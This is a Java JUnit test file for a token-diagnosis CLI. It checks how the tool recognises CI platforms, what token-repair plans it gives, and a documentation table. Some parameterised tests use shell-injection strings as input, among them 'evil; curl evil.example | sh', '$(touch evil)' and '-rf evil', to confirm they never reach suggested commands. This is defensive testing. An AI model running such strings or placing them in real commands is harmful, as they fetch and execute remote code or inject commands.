package dev.chainloop.token.advice;

import static org.junit.jupiter.api.Assertions.*;

import com.fasterxml.jackson.databind.JsonNode;
import dev.chainloop.token.core.Keyword;
import dev.chainloop.token.source.Place;
import dev.chainloop.token.testing.CliRun;
import dev.chainloop.token.testing.Golden;
import dev.chainloop.token.testing.Markdown;
import dev.chainloop.token.testing.Payload;
import dev.chainloop.token.testing.TestWorld;
import dev.chainloop.token.testing.TokenMint;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Where a plan is for, and what the page topics.md says of the places. */
final class AdviceTest {
    private static final Path PAGE = Path.of("src/site/markdown/topics.md");

    @TempDir
    Path home;

    /** How each place is known: its variables, and what the machine tells. */
    enum Where {
        DAGGER("CHAINLOOP_DAGGER_CLIENT=1 GITHUB_ACTIONS=true", ""),
        GITHUB("GITHUB_ACTIONS=true GITHUB_REPOSITORY=acme/web", ""),
        GITLAB("GITLAB_CI=true", ""),
        AZURE("TF_BUILD=True", ""),
        JENKINS("JENKINS_HOME=/var BUILD_URL=https://ci.example/1", ""),
        CIRCLECI("CIRCLECI=true", ""),
        TEAMCITY("TEAMCITY_PROJECT_NAME=web", ""),
        TEKTON("", "unattended\n/tekton/results"),
        CI("CI=true", "unattended"),
        POD("KUBERNETES_SERVICE_HOST=10.0.0.1", "unattended"),
        CONTAINER("", "unattended\n/.dockerenv"),
        SERVICE("INVOCATION_ID=1", "unattended"),
        JOB("", "unattended"),
        SSH("SSH_CONNECTION=1", ""),
        TERMINAL("", "");
        private final String variables;
        private final String machine;

        Where(String variables, String machine) {
            this.variables = variables;
            this.machine = machine;
        }

        String variables() {
            return variables;
        }

        String machine() {
            return machine;
        }

        CliRun run(Path home, String token) {
            CliRun run = CliRun.withHome(home).machine(machine).env(variables);
            return token.isEmpty() ? run : run.env("CHAINLOOP_TOKEN", TokenMint.described(token));
        }
    }

    @ParameterizedTest
    @EnumSource
    void aPlaceIsKnownByItsSigns(Where where) {
        assertEquals(where.name().toLowerCase(Locale.ROOT), place(where.run(home, "API expired")));
    }

    @Test
    void everyPlaceHasASignThatNoOtherHides() {
        assertEquals(
                List.of(Place.values()).toString(),
                List.of(Where.values()).toString().replace("]", ", ELSEWHERE]"),
                "a constant of AdviceTest.Where for each place, in their order");
        // Most CI systems set what CI goes by, too, so only what is none may stand behind it.
        assertEquals(
                "[POD, CONTAINER, SERVICE, JOB, SSH, TERMINAL, ELSEWHERE]",
                EnumSet.complementOf(EnumSet.range(Place.DAGGER, Place.CI)).toString());
    }

    /** Signs that others set, too, and that a person sets by hand. */
    @ParameterizedTest
    @CsvSource({
        "GITHUB_ACTIONS=true ACT=true, '', ci",
        "GITHUB_ACTIONS=true GITEA_ACTIONS=true, '', ci",
        "GITHUB_ACTIONS=true FORGEJO_ACTIONS=true, '', ci",
        "CHAINLOOP_SANDBOX=1, unattended, ci",
        "CI=true, '', terminal",
        "CI=false, unattended, job",
        "TEAMCITY_VERSION=2026.1, '', teamcity",
        "JENKINS_URL=https://ci.example, '', jenkins",
        "container=podman, '', ssh",
        "X=1, /run/.containerenv, ssh",
        "SSH_TTY=/dev/pts/1, '', ssh",
        "KUBERNETES_SERVICE_HOST=10.0.0.1, '', pod",
        "INVOCATION_ID=1 JENKINS_HOME=/var, '', terminal",
        "GITLAB_CI=false TF_BUILD=False CIRCLECI=FALSE, '', terminal",
        "GITHUB_ACTIONS=true ACT=false, '', github",
    })
    void aSignIsWeighed(String variables, String machine, String place) {
        CliRun run = CliRun.withHome(home).machine(machine).env(variables);
        assertEquals(place, place(run.env("CHAINLOOP_TOKEN", TokenMint.described("API expired"))));
    }

    private static String place(CliRun run) {
        return Payload.read(run.run("-o", "json").out()).at("/plan/place").asText();
    }

    // ---------- the place that the user names

    static final List<String> NAMED = Keyword.words(List.copyOf(EnumSet.range(Place.DAGGER, Place.JOB)));

    /** Unset and empty are both told, and nothing that is known here: neither the repository nor a variable. */
    @ParameterizedTest
    @FieldSource("NAMED")
    void aNamedPlaceHasItsOwnWords(String place) {
        CliRun run = Where.GITHUB.run(home, "").env("CHAINLOOP_TOKEN", "");
        JsonNode answer = Payload.read(run.run("--in", place, "-o", "json").out());
        String plan = answer.get("plan").toString();
        assertEquals(place, answer.at("/plan/place").asText());
        if (!place.equals("github")) {
            assertFalse(plan.contains("acme/web"), plan);
            assertTrue(plan.contains("If the variable is not set there, "), plan);
            assertTrue(plan.contains("If it is set to nothing, "), plan);
        }
    }

    /** The user's word for where it failed changes no status, no finding, no fact. */
    @ParameterizedTest
    @CsvSource({"API expired, inspect", "USER, check", "API iat=now-1d exp=now+3h, check"})
    void aNamedPlaceChangesThePlanAlone(String token, String command) {
        List<String> args = new ArrayList<>(List.of(command, "-o", "json"));
        CliRun.Result here = Where.TERMINAL.run(home, token).run(args);
        args.addAll(List.of("--in", "gitlab"));
        CliRun.Result there = Where.TERMINAL.run(home, token).run(args);
        assertEquals(here.status(), there.status());
        assertEquals(withoutPlan(here), withoutPlan(there));
    }

    private static String withoutPlan(CliRun.Result result) {
        JsonNode json = Payload.read(result.out());
        ((com.fasterxml.jackson.databind.node.ObjectNode) json).remove("plan");
        return json.toString();
    }

    /** Only the user knows where a token from stdin is kept: nothing is stored, and the last line says how to name it. */
    @ParameterizedTest
    @CsvSource({"API expired, true", "API iat=now-7d exp=now+1h, true", "API, false"})
    void aTokenFromStdinIsStoredNowhere(String token, boolean planned) {
        String out = Where.TERMINAL
                .run(home, "")
                .stdin(TokenMint.described(token) + "\n")
                .run("-")
                .out();
        assertEquals(planned, out.endsWith("for that place's plan.\n"), out);
        assertFalse(out.contains("export ") || out.contains("gh secret"), out);
        String there = Where.TERMINAL
                .run(home, "")
                .stdin(TokenMint.described(token) + "\n")
                .run("-", "--in", "github")
                .out();
        assertEquals(planned, there.contains("gh secret set CHAINLOOP_TOKEN --repo OWNER/REPO"), there);
        assertFalse(there.contains("--in "), there);
    }

    // ---------- what stands in a command

    /** Anybody can write a token: what is no name and no UUID is a placeholder, in each claim that a command can hold. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a$(touch evil)b",
                "`evil`",
                "evil; curl evil.example | sh",
                "-rf evil",
                "--evil",
                "evil\\nrm evil",
                "\\u001b[31mevil",
                "evil' 'evil",
                "../evil",
                "EVIL"
            })
    void aHostileClaimIsInNoCommand(String claim) {
        List<List<String>> outputs = List.of(
                List.of("inspect", "-o", "json"),
                List.of("check", "-o", "json"),
                List.of("sources", "-o", "json"),
                List.of("explain", "-o", "json", "API token revoked"),
                List.of("explain", "-o", "json", "valid only with the project"),
                List.of("inspect", "-o", "json", "--in", "pod"),
                List.of("inspect", "-o", "json", "--redact"));
        String claims = " jti=\"%1$s\" token_name=\"%1$s\" org_name=\"%1$s\" project_name=\"%1$s\"".formatted(claim);
        for (String end : List.of(" expired", " exp=now+1h")) {
            for (Where where : Where.values()) {
                for (List<String> output : outputs) {
                    JsonNode answer = Payload.read(
                            where.run(home, "API" + end + claims).run(output).out());
                    for (JsonNode step : answer.at("/plan/steps")) {
                        String lines = step.path("run").toString() + step.path("put");
                        assertFalse(lines.toLowerCase(Locale.ROOT).contains("evil"), lines);
                    }
                }
            }
        }
        String text = Where.GITHUB.run(home, "API expired" + claims).run().out();
        for (String line : text.lines().filter(one -> one.startsWith("    ")).toList()) {
            assertFalse(line.toLowerCase(Locale.ROOT).contains("evil"), text);
        }
        assertTrue(text.contains(" --id ID --org ORG"), text);
    }

    @ParameterizedTest
    @CsvSource({
        "https://github.com, acme/web, acme/web",
        "https://github.acme.example, acme/web, github.acme.example/acme/web",
        "https://github.acme.example:8443, acme/web, github.acme.example:8443/acme/web",
        "https://github.example/$(evil), acme/web, OWNER/REPO",
        "https://github.com, acme/web;evil, OWNER/REPO",
        "https://github.com, -R/evil, OWNER/REPO",
        "https://github.com, ~root/evil, OWNER/REPO",
    })
    void aRepositoryIsNamedWithItsHost(String server, String repository, String named) {
        String plan = Where.GITHUB
                .run(home, "API expired")
                .env("GITHUB_REPOSITORY", repository)
                .env("GITHUB_SERVER_URL", server)
                .run("-o", "json")
                .out();
        assertTrue(plan.contains("gh secret set CHAINLOOP_TOKEN --repo " + named + "\""), plan);
    }

    @Test
    void aPathIsNoOptionAndNoLetterOfItIsHidden() {
        Optional<Path> none = Optional.empty();
        assertEquals("./-rf", ShellWord.ofPath("-rf", none));
        assertEquals("'./- x'", ShellWord.ofPath("- x", none));
        assertEquals("FILE", ShellWord.ofPath("/tmp/a\nb", none));
        assertEquals("FILE", ShellWord.ofPath("/tmp/\u202eb", none));
        assertEquals("'/tmp/a$(b)'", ShellWord.ofPath("/tmp/a$(b)", none));
        assertEquals("~/'a'\\''b'", ShellWord.ofPath("/root/a'b", Optional.of(Path.of("/root"))));
    }

    // ---------- what was mended before

    /** A gate recommends nothing that it refuses, a list names the control plane, and what cannot be read is not widened. */
    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            GITHUB | check --type api-token | gh secret set | id-token
            GITHUB | check | id-token: write | auth login
            GITHUB | check --type user | Accept an API token | api-token create
            GITHUB CHAINLOOP_TOKEN=@API@ | explain 'name already taken' | --status all --org acme --control-plane cp.acme.example:443 | auth login
            TERMINAL 'CHAINLOOP_TOKEN=@API exp=now+1h token_name="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"@' | check --min-remaining 9d | --name aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-2 --org acme | auth logout
            GITLAB 'CHAINLOOP_TOKEN=@API exp=now+1h project_id=7@' | check --min-remaining 9d | what it is for cannot be read | api-token create
            GITLAB 'CHAINLOOP_TOKEN=@API exp=now+1h org_id=7@' | check --min-remaining 9d | what it is for cannot be read | api-token create
            GITHUB GITHUB_ACTOR=dependabot[bot] CHAINLOOP_TOKEN=@API@@U+A@ | inspect | set CHAINLOOP_TOKEN --app dependabot --repo acme/web |
            TERMINAL SHELL=/usr/bin/fish 'CHAINLOOP_TOKEN=@API expired@' | inspect | set CHAINLOOP_TOKEN to what that prints | unset
            TERMINAL SHELL=/usr/bin/fish config=[@U+A@ | inspect | move it away | mv
            TERMINAL CHAINLOOP_TOKEN=@API@ config=[@U+A@ | inspect | config.toml.old | auth login
            TERMINAL config=[@U+A@ | inspect -c ~/.config/../.config/chainloop/config.toml | move it away | mv
            GITHUB 'config=auth.token="@API expired@"' | inspect -c ~/.config/../.config/chainloop/config.toml | org api-token revoke | --config
            TERMINAL 'CHAINLOOP_TOKEN=@API expired@' CHAINLOOP_CONTROL_PLANE_API= | inspect | auth login | HOST:PORT
            TERMINAL TOKEN-OF-CI=@API@ | inspect | to the value of TOKEN-OF-CI | export
            GITLAB OTHER=@API@ | inspect | variables: CHAINLOOP_TOKEN: $OTHER | id_tokens
            POD OTHER=@API@ | inspect | name the variable CHAINLOOP_TOKEN where a Kubernetes pod gets it | export
            JENKINS OTHER=@API@ | inspect | export CHAINLOOP_TOKEN="$OTHER" |
            GITLAB CI_COMMIT_REF_PROTECTED=false CHAINLOOP_TOKEN=$CHAINLOOP_TOKEN | inspect | Remove the line that sets CHAINLOOP_TOKEN now. This branch |
            GITLAB CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2 CI_MERGE_REQUEST_PROJECT_ID=1 CHAINLOOP_TOKEN=$CHAINLOOP_TOKEN | inspect | Remove the line that sets CHAINLOOP_TOKEN now. Skip |
            POD CHAINLOOP_TOKEN=glcbt-64_0123456789abcdefghij | inspect | Store Chainloop's own token as | the whole token
            POD CHAINLOOP_TOKEN=glcbt-64_0123456789abcdefghij | inspect | then restart; fill in DEPLOYMENT: kubectl rollout restart |
            TERMINAL CHAINLOOP_TOKEN=an-unknown-key | inspect | Store Chainloop's own token as | the whole token
            TERMINAL 'CHAINLOOP_TOKEN="@API@"' | inspect --in pod | Store the token as | one token
            TERMINAL CHAINLOOP_TOKEN=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.@U+A@e30.AAAA | inspect | `token=$(printf %s "$CHAINLOOP_TOKEN" | tr -cd 'A-Za-z0-9._-') &&` |
            GITHUB CHAINLOOP_TOKEN=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.@U+A@e30.AAAA | inspect | `Store the token in one line as the secret CHAINLOOP_TOKEN, and nothing else; paste it, and end with Ctrl-D: tr -cd 'A-Za-z0-9._-' | gh secret set` |
            TERMINAL SHELL=/usr/bin/fish 'CHAINLOOP_TOKEN=@API expired@' 'config=auth.token="@USER@"' | inspect | set -e CHAINLOOP_TOKEN | second command
            TERMINAL SHELL=/usr/bin/fish 'CHAINLOOP_TOKEN=@USER expired@' | inspect | set -e CHAINLOOP_TOKEN | unset
            TERMINAL SHELL=/usr/bin/nu 'CHAINLOOP_TOKEN=@API expired@' 'config=auth.token="@USER@"' | inspect | Remove CHAINLOOP_TOKEN, here and where it is set, and work with your login. | unset
            TERMINAL 'config=auth.token="@USER@"' | explain 'only organization admins can' | --role admin |
            TERMINAL 'config=auth.token="@USER@"' | explain 'only organization owners can' | --role owner |
            TERMINAL 'config=auth.token="@USER@"' | explain 'operation not allowed' | --role ROLE | of acme
            TERMINAL 'config=organization="acme"@U+A@auth.token="@USER@"' | explain 'operation not allowed' | Ask an administrator of acme for a role |
            TERMINAL 'CHAINLOOP_TOKEN=@API exp=now+1h@' | check --min-remaining 14d | (30 days and the 14 demanded) | pick a lifetime
            TERMINAL 'CHAINLOOP_TOKEN=@API exp=now+1h@' | check --min-remaining 2h | (30 days and the one demanded) | pick a lifetime
            TERMINAL 'config=control-plane.api="cp.other.example:443"@U+A@auth.token="@USER expired@"' | inspect | mean the control plane in the config file, remove the variable, here and where it is set: unset CHAINLOOP_CONTROL_PLANE_API Log in: chainloop auth login |
            TERMINAL 'config=control-plane.api="cp.other.example:443"@U+A@auth.token="@USER expired@"' | sources | unset CHAINLOOP_CONTROL_PLANE_API Log in: chainloop auth login |
            TERMINAL 'config=control-plane.api="cp.other.example:443"@U+A@auth.token="@USER expired@"' | explain 'issuer not found: cp.chainloop' | unset CHAINLOOP_CONTROL_PLANE_API Log in: chainloop auth login |
            TERMINAL GITLAB_OIDC=@FEDERATED@ | inspect | $GITLAB_OIDC holds a federated token |
            GITHUB OTHER=@USER@ | inspect | secrets.CHAINLOOP_TOKEN | export
            TERMINAL OTHER=@API@ | check --max-remaining 90d | auth login | export
            TERMINAL 'OTHER=@API exp=now+3d@' | check --min-remaining 2d --warn-remaining 5d | auth login | export
            TERMINAL OTHER=@API@ | check --org umbrella | --org umbrella | $OTHER"
            TERMINAL 'OTHER=@API workflow_name="build"@' | check --project web | --project web | $OTHER"
            TERMINAL 'OTHER=@API scope="instance"@' | check --project web | --project web | $OTHER"
            TERMINAL 'OTHER=@API project_id=5@' | check --project web | --project web | $OTHER"
            TERMINAL 'CHAINLOOP_TOKEN=@API aud="attestations.chainloop"@' 'config=auth.token="@USER@"' | inspect | api-token create |
            TERMINAL 'CHAINLOOP_TOKEN=@API expired@' | inspect --source env | api-token revoke | auth login
            TERMINAL 'CHAINLOOP_TOKEN=@API expired@' | check --in container | CHAINLOOP_TOKEN= chainloop org api-token revoke |
            TERMINAL CHAINLOOP_TOKEN=@API@ | inspect --source config | See what the other sources hold: chainloop-token sources | auth login
            TERMINAL | inspect '--token= ' | Leave out | auth login
            TEKTON CHAINLOOP_TOKEN= | inspect | kubectl create secret | patch
            CI config=auth.token="$CHAINLOOP_TOKEN" | inspect | in the place of its name | create
            CI config=auth.token="\\'@API@\\'" | inspect | between one pair of quotes | create
            TERMINAL 'CHAINLOOP_TOKEN=@API@ eyJhbGci' | inspect | Keep only the token, here and where the variable is set: token=$(printf |
            TERMINAL CHAINLOOP_TOKEN=/run/token | check --type api-token | api-token create |
            TERMINAL SUDO_USER=bob 'CHAINLOOP_TOKEN=@USER expired@' | inspect | auth login | sudo
            TERMINAL SUDO_USER=bob 'config=auth.token="@USER expired@"' | inspect | sudo --preserve-env |
            TERMINAL SUDO_USER=bob 'config=auth.token="@USER@"' | inspect | /.config/chainloop/config.toml | ~/
            SSH DISPLAY=:0 'config=auth.token="@USER expired@"' | inspect | auth login | --skip-browser
            SSH WAYLAND_DISPLAY=wayland-0 'config=auth.token="@USER expired@"' | inspect | auth login | --skip-browser
            JOB 'config=auth.token="@USER expired@"' | check --type user | Accept an API token | create
            JOB XDG_CONFIG_HOME=/nowhere 'config=auth.token="@USER expired@"' | inspect | api-token create |
            GITHUB CHAINLOOP_CONTROL_PLANE_API=https://cp 'CHAINLOOP_TOKEN=@API expired@' | inspect | --control-plane HOST:PORT | https:
            GITHUB CHAINLOOP_TOKEN=@API@ | check --org 5DDB8201-EAB6-4E61-9201-F12B47C01892 | ci-2 --org 5DDB8201-EAB6-4E61-9201-F12B47C01892 |
            TERMINAL 'config=auth.token="@USER exp=now+1h@"' | check --min-remaining 6d | auth login | create
            TERMINAL 'config=auth.token="@USER exp=now+1h@"' | check --min-remaining 7d | --expiration 888h |
            TERMINAL | check '@API exp=now+3d@' --min-remaining 30d | --status all --org acme |
            GITHUB CI=1 GITHUB_RUN_ID=1 ACTIONS_ID_TOKEN_REQUEST_URL=x ACTIONS_ID_TOKEN_REQUEST_TOKEN=x | inspect '@FEDERATED expired@' | just before it is used |
            GITHUB GITHUB_RUN_ID=1 ACTIONS_ID_TOKEN_REQUEST_URL=x ACTIONS_ID_TOKEN_REQUEST_TOKEN=x | inspect | id-token: write |
            GITHUB CI=1 ACTIONS_ID_TOKEN_REQUEST_URL=x ACTIONS_ID_TOKEN_REQUEST_TOKEN=x | inspect | id-token: write |
            GITHUB CI=1 GITHUB_RUN_ID=1 ACTIONS_ID_TOKEN_REQUEST_TOKEN=x | inspect | id-token: write |
            GITHUB CI=1 GITHUB_RUN_ID=1 ACTIONS_ID_TOKEN_REQUEST_URL=x | inspect | id-token: write |
            GITHUB | check --type user,api-token | If no token is stored yet |
            GITHUB | check --min-remaining 1h | If no token is stored yet | id-token
            GITLAB | check --min-remaining 1h | If the repository is enrolled |
            JOB | check --type federated | let the job request a new token | create
            TERMINAL CHAINLOOP_TOKEN=@API@ | check --issuer https://x.example | Check that cp.acme.example:443 ($CHAINLOOP_CONTROL_PLANE_API) made the token |
            TERMINAL CHAINLOOP_TOKEN=@API@ | check --issuer https://x.example --in github | in CHAINLOOP_CONTROL_PLANE_API, or | in use: cp.acme
            TERMINAL config=[@U+A@ | check --type user -o json | a token of type user, but its source cannot be read |
            TERMINAL HOME= XDG_CONFIG_HOME=/nowhere | inspect | auth login |
            GITLAB CI_COMMIT_REF_PROTECTED=false CI_COMMIT_REF_NAME=eyJhbGciOiJIUzI1NiJ9 | inspect | This branch is not protected |
            GITLAB CI_COMMIT_REF_PROTECTED=false CI_COMMIT_REF_NAME=fix/x-eyJhbGciOi | inspect | This branch is not protected |
            GITLAB CI_COMMIT_REF_PROTECTED=false CI_COMMIT_REF_NAME=ZXlKaGJHY2lPaUpJVXpJMU5pSjk | inspect | This branch is not protected |
            GITLAB CI_COMMIT_REF_PROTECTED=false CI_COMMIT_REF_NAME=a`b | inspect | This branch is not protected |
            GITLAB CI_COMMIT_REF_PROTECTED=false CI_COMMIT_REF_NAME= | inspect | This branch is not protected |
            GITHUB GITHUB_EVENT_NAME=pull_request GITHUB_EVENT_PATH=/e 'machine=/e {"pull_request":{"head":{"repo":{"full_name":"acme/web"}}}}' | inspect | secrets.CHAINLOOP_TOKEN | fork
            TERMINAL CHAINLOOP_TOKEN=@U+A@@API@ | inspect | fails with PROTOCOL_ERROR |
            TERMINAL CHAINLOOP_TOKEN=@API@@U+D@ | inspect | fails with PROTOCOL_ERROR |
            CI 'CHAINLOOP_TOKEN=@CLAIMS aud="x" iss="http://g.example" namespace_id="7"@' | inspect | Name the audience |
            CI 'CHAINLOOP_TOKEN=@CLAIMS aud="x" iss="https://g.example" project_path="a/b"@' | inspect | &audience=chainloop |
            CI 'CHAINLOOP_TOKEN=@CLAIMS aud="x" iss="https://g.example" repository_owner_id="7"@' | inspect | &audience=chainloop |
            CI 'CHAINLOOP_TOKEN=@CLAIMS aud="x" iss="https://token.actions.acme.ghe.com"@' | inspect | &audience=chainloop |
            TERMINAL CHAINLOOP_TOKEN=@API@@U+7@ | inspect | an invisible character around it |
            GITLAB CI_COMMIT_REF_PROTECTED=false CI_COMMIT_REF_NAME=a/b | inspect | This branch, "a/b", is not protected |
            GITLAB CI_COMMIT_REF_PROTECTED=false CI_COMMIT_REF_NAME=ada/leaves | inspect --redact | This branch is not protected | ada
            TERMINAL 'CHAINLOOP_TOKEN=@API expired@' config=[@U+A@ | inspect --in github | gh secret set | mv
            GITHUB 'CHAINLOOP_TOKEN=@API exp=now+1h token_name="ci-9999"@' | inspect | --name ci-9999-2 |
            JOB 'CHAINLOOP_TOKEN=@FEDERATED header={"alg":"none"}@' | inspect | let the job request a new token | whole
            GITHUB 'CHAINLOOP_TOKEN=@API exp=now+1h token_name="ci-9"@' | inspect | --name ci-10 |
            GITHUB CHAINLOOP_CONTROL_PLANE_API=api.cp.chainloop.dev:443 'CHAINLOOP_TOKEN=@API expired@' | inspect | api-token create | --control-plane
            TERMINAL SUDO_USER=bob config=[@U+A@ | inspect | config.toml.old | mv ~
            TERMINAL 'CHAINLOOP_TOKEN=Bearer @API header={"alg":"RS256"}@' | inspect | accepts only HS256 |
            TERMINAL CHAINLOOP_TOKEN=@API@ 'config=auth.token=" "' | sources -o json | "state": "blank" |
            TERMINAL | check --max-remaining 7d | chainloop auth login | create
            TERMINAL | check --max-remaining 6d | --expiration 144h |
            TERMINAL | check --max-remaining 90m | --expiration 90m |
            TERMINAL | check --max-remaining 90s | --expiration 90s |
            TERMINAL | check --min-remaining 169h | --expiration 912h |
            TERMINAL | check --warn-remaining 40d --type api-token | --expiration 1680h |
            TERMINAL 'OTHER=@API exp=now+3d@' | check --min-remaining 3d --max-remaining 3d | export CHAINLOOP_TOKEN="$OTHER" |
            TERMINAL 'OTHER=@API scope="product"@' | check --project web | --project web | $OTHER"
            TERMINAL 'OTHER=@API project_id="p" project_name="shop"@' | check --project web | --project web | $OTHER"
            TERMINAL 'CHAINLOOP_TOKEN=@FEDERATED expired header={"alg":"RS256"}@' | inspect --in github | just before it is used | Remove
            TERMINAL CHAINLOOP_TOKEN=/run/token OTHER=@API@ | inspect | export CHAINLOOP_TOKEN="$OTHER" | create
            GITHUB GITHUB_EVENT_NAME=pull_request GITHUB_EVENT_PATH=/e 'machine=/e {"pull_request":{"head":{"repo":{"full_name":"x/web"}}}}' 'CHAINLOOP_TOKEN=@FEDERATED expired header={"alg":"RS256"}@' | inspect | Skip the job | id-token
            TERMINAL 'CHAINLOOP_TOKEN=@API -org_id -org_name scope="INSTANCE_ADMIN"@' | explain 'current organization not set' | with the organization's name | organization list
            TERMINAL 'CHAINLOOP_TOKEN=@API project_id="p" project_name="web" workflow_id="w" workflow_name="b"@' | explain 'scoped to a different workflow' | --project web | PROJECT
            TERMINAL 'CHAINLOOP_TOKEN=@API exp=now+3d@' | check --warn-remaining 3d -o json | typed | expires-soon
            TERMINAL 'CHAINLOOP_TOKEN=@FEDERATED header={"alg":"RS256"} letters=300@' | inspect | has at least 342: |
            TERMINAL XDG_CONFIG_HOME=/nowhere 'config=auth.token="@USER@"' | inspect | ~/.config/chainloop/config.toml exists |
            CONTAINER XDG_CONFIG_HOME=/nowhere 'config=auth.token="@USER@"' | inspect | Unset XDG_CONFIG_HOME |
            GITHUB CI=1 GITHUB_RUN_ID=1 ACTIONS_ID_TOKEN_REQUEST_URL=x ACTIONS_ID_TOKEN_REQUEST_TOKEN=x CHAINLOOP_TOKEN= | inspect | attestation commands request a federated one |
            TERMINAL 'CHAINLOOP_TOKEN=@API org_id=1 org_name=1 project_id=1 project_name=1 workflow_id=1 workflow_name=1 scope=1 scope_type=1 scope_id=1@' | inspect | org_id is not a string, org_name is not a string, project_id is not a string, project_name is not a string, workflow_id is not a string, workflow_name is not a string, scope is not a string, scope_type is not a string, scope_id is not a string. |
            GITHUB 'CHAINLOOP_TOKEN=@API expired@' 'config=auth.token="@USER@"' | inspect | api-token revoke | with your login
            GITHUB | explain -t @API@ 'API token revoked' | create an API token | Give
            GITHUB CHAINLOOP_TOKEN=@API@ | explain --in terminal 'JWT token has expired' | chainloop auth login | --config
            TERMINAL 'CHAINLOOP_TOKEN=@API token_name="own"@' | explain --in github 'API token revoked' | --name NAME --expiration | --name own
            TERMINAL | explain --in github -t '@API token_name="own"@' 'API token revoked' | --name own --org acme |
            TERMINAL 'CHAINLOOP_TOKEN=@API token_name="own"@' | explain --source env --in github 'API token revoked' | --name own |
            TERMINAL 'OTHER=@API exp=now+9d@' | check --max-remaining 3d | auth login | $OTHER"
            TERMINAL | check --type api-token | Log in to create tokens | unset
            GITHUB 'CHAINLOOP_TOKEN=@API expired@' 'OTHER=@FEDERATED header={"alg":"RS256"}@' | inspect | api-token revoke | only makes
            GITHUB | check -t @API@ --type federated | request a token by themselves | just before
            GITHUB 'CHAINLOOP_TOKEN=@FEDERATED expired header={"alg":"RS256"}@' | check --type api-token | gh secret set | id-token
            TERMINAL 'OTHER=@API project_id=5@' | inspect | export CHAINLOOP_TOKEN="$OTHER" |
            TERMINAL 'CHAINLOOP_TOKEN=@CLAIMS aud="x" iss="https://g.example"@' | inspect --in pod | kubectl patch secret | Remove what sets
            TERMINAL XDG_CONFIG_HOME=/nowhere 'config=auth.token="@USER@"' | inspect --source config | auth login | Unset
            TERMINAL 'config=auth.token="@USER -exp -user_id@"' | inspect | auth login |
            GITLAB 'CHAINLOOP_TOKEN=@API expired@' 'GITLAB_OIDC=@FEDERATED header={"alg":"RS256"}@' | check --type api-token | api-token revoke | only makes
            GITHUB 'CHAINLOOP_TOKEN=@FEDERATED expired header={"alg":"RS256"}@' 'OTHER=@FEDERATED header={"alg":"RS256"}@' | inspect | export CHAINLOOP_TOKEN="$OTHER" |
            TERMINAL OTHER=@API@ | check --project web --org acme | export CHAINLOOP_TOKEN="$OTHER" |
            TERMINAL config= | sources | an empty file; another process may be writing it, or it was cut off |
            TERMINAL config=auth.token="" | sources | auth.token is empty |
            TERMINAL CHAINLOOP_CONTROL_PLANE_API= config=control-plane.api="" | sources | no auth.token in it |
            """)
    void aMendStays(String world, String command, String has, @Nullable String hasNot) throws IOException {
        List<String> words = TestWorld.words(
                world.replace("@U+A@", "\\n").replace("@U+D@", "\\r").replace("@U+7@", "\u0007"), home);
        CliRun run =
                Where.valueOf(words.get(0)).run(home, "").env("CHAINLOOP_CONTROL_PLANE_API", "cp.acme.example:443");
        Path folder = home.resolve(".config/chainloop");
        for (String word : words.subList(1, words.size())) {
            String[] parts = word.split("=", 2);
            switch (parts[0]) {
                case "config" ->
                    Files.writeString(Files.createDirectories(folder).resolve("config.toml"), parts[1]);
                case "machine" -> run.machine(parts[1]);
                default -> run.env(parts[0], parts[1]);
            }
        }
        CliRun.Result result = run.run(TestWorld.words(command, home));
        assertTrue((result.out() + result.err()).replaceAll("\\s+", " ").contains(has), result::toString);
        assertFalse(hasNot != null && result.out().contains(hasNot), result::toString);
    }

    // ---------- the page

    @Test
    void thePageHasThePlaces() throws IOException {
        List<String> rows = new ArrayList<>();
        for (Place place : Place.values()) {
            boolean named = place != Place.ELSEWHERE;
            rows.add(Markdown.row(
                    place.title(),
                    named ? "`" + place.word() + "`" : "",
                    place.isAttended() ? "yes" : "no",
                    SecretStore.of(place).kept()));
        }
        String heading = "| place | `--in` | a person can log in | where the token is kept |";
        Golden.check(PAGE, Markdown.with(PAGE, heading, rows));
    }
}
